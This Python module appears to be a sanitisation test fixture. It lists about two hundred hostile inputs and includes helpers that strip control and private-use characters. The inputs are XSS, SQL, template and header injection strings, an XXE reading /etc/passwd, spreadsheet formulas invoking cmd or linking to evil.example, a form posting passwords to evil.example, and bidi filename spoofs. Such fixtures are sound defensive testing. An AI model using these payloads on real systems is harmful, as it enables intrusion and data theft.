"""Two hundred texts that nobody types in good faith, and what is left of each."""

from unicodedata import category, normalize

MARKUP = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>ouvrir</a>",
    "<a href='java\tscript:alert(1)'>ouvrir</a>",
    "<form action=https://evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>Envoyer</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example)</style>",
    "<math><mtext></mtext><mglyph><script>alert(1)</script></mglyph></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<marquee onstart=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>",
    "<div hx-get='/sign-out' hx-trigger='load'>",
    "<div data-hx-post='/sign-out' hx-on::load='alert(1)'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]
BREAKS = [
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" type="submit" formaction="https://evil.example',
    '"></textarea><textarea name="version">9</textarea>',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\partage",
    "https://evil.example/@quai.example",
    "mailto:a@b.example?bcc=tous@quai.example",
    "Bcc: tous@quai.example\r\n\r\nCorps",
    "Sujet\r\nBcc: tous@quai.example",
    "Sujet\nContent-Type: text/html\n\n<h1>Refusé</h1>",
    "a\r\nSet-Cookie: session=1",
    "a\u2028Location: //evil.example",
    "a\u2029b",
    "a\x0bb\x0cc",
    "a\u0085b",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include 'config.py' %}",
    "{% raw %}{{ a }}{% endraw %}",
    "{# commentaire #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{authority.name}",
    "{0.__class__}",
    "{name!r:>100000000}",
    "%(password)s",
    "%s%s%s%n",
    "%d %",
    "$HOME `id` $(id)",
    "[[nom]] {{nom}} <<nom>>",
    "@import 'config.py';",
    "\\input{/etc/passwd}",
    "=cmd|' /C calc'!A0",
]
QUERIES = [
    "'; DROP TABLE answer; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; ATTACH DATABASE '/tmp/x' AS x; --",
    "Robert'); DELETE FROM journal_line; --",
    "% _ \\% \\_",
    "*) OR (uid=*",
    "../../../../etc/passwd",
    "..\\..\\config.py",
    "file:///etc/passwd",
    '{"$gt": ""}',
    '{"__proto__": {"admin": true}}',
    '"}],"sections":[]}',
    "null",
    "true",
    "NaN",
    "-0",
    "1e308",
    "0x10",
    "[object Object]",
]
FORMULAS = [
    f"{start}{formula}"
    for start in ("", " ", "\t", "\r", "\0", "\ufeff", "\u200b")
    for formula in ("=1+1", '=HYPERLINK("http://evil.example")', "+1+1", "@SUM(1)", "-2+3")
] + ["＝1+1", "＋1", "－1", "＠a", "a;=1+1", "a,=1+1", '"=1+1"', "'=1+1"]
DIRECTIONS = [
    f"avant{mark}après"
    for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
] + [
    "facture\u202efdp.exe",
    "\u202eéciffo ecnavuS\u202c",
    "\u2067\u2066" * 50,
    "א\u200eב\u200fג",
    "نص عربي مع 123 أرقام",
    "a\u200bb\u200cc\u200dd",
    "\u2060\ufeff\u180e",
    "\u00ad" * 50,
]
CONTROLS = [
    *(f"avant{chr(code)}après" for code in (*range(9), 11, 12, 14, 27, 31, 127, 128, 155, 159)),
    "avant\ufffeaprès",
    "avant\uffffaprès",
    "avant\U0001fffeaprès",
    "avant\ufdd0après",
    "avant\ue000après",
    "avant\U0010fffdaprès",
    "\x1b[2J\x1b]0;titre\x07",
]
SHAPES = [
    "e\u0301" * 200,
    "Z" + "\u0335\u0336\u0337\u0338" * 400,
    "👩\u200d🔬👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈" * 20,
    "\U0001f1eb\U0001f1f7" * 50,
    "漢字かなカナ한글",
    "﷽" * 50,
    "𝕃𝕖𝕥𝕥𝕣𝕖𝕤",
    "раypal",  # its first letters are Cyrillic
    "İIıi ǅ ß ẞ ſ",
    "ﬀ ﬁ ﬂ ½ ² № ℡",
    "Å Å Å",
    "\u1e9b\u0323",
    "mot" * 2_000,
    "ligne\n" * 2_000,
    "\n" * 200,
    " " * 200,
    "\u00a0\u2003\u3000",
    ".",
    "-",
    "🦠" * 500,
]
FLOOD = "é" * 100_000
TEXTS = [
    *MARKUP, *BREAKS, *TEMPLATES, *QUERIES, *FORMULAS, *DIRECTIONS, *CONTROLS, *SHAPES, FLOOD,
]  # fmt: skip


def is_seen(character: str) -> bool:
    """Tell whether a character is typed by people: no control, no private use."""
    code = ord(character)
    never = 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE
    return character in "\n\r\t" or not (category(character) in {"Cc", "Cs", "Co"} or never)


def left_of(text: str) -> str:
    """Return what is left of a text: every character that people type, accents composed."""
    return "".join(filter(is_seen, normalize("NFC", text)))


def is_answer(text: str) -> bool:
    """Tell whether something of a text can be seen."""
    return any(letter.isprintable() and not letter.isspace() for letter in left_of(text))
